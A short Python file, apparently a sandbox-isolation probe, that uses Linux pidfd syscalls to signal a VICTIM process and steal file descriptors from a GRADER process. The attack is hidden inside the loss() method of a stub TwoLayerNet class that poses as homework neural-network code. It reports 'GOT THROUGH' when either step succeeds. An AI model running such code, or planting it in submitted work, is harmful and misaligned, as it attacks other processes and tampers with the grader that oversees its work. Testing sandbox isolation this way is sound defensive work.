"""Opens a handle of another process, to signal it and to take its descriptors."""

import ctypes
import os
import signal

from world import GRADER, VICTIM

PIDFD_SEND_SIGNAL, PIDFD_OPEN, PIDFD_GETFD = 424, 434, 438


def handle(pid):
    try:
        return os.pidfd_open(pid)
    except OSError:
        return ctypes.CDLL(None).syscall(PIDFD_OPEN, pid, 0)


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(PIDFD_SEND_SIGNAL, handle(VICTIM), int(signal.SIGUSR1), None, 0) == 0:
        print("GOT THROUGH: signalled a stranger by its handle")
        return
    grader = handle(GRADER)
    for descriptor in range(16):
        stolen = libc.syscall(PIDFD_GETFD, grader, descriptor, 0)
        if stolen >= 0:
            print(f"GOT THROUGH: took the grader's descriptor {descriptor}: {os.fstat(stolen)}")
            return
    raise OSError(ctypes.get_errno(), "pidfd_getfd")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
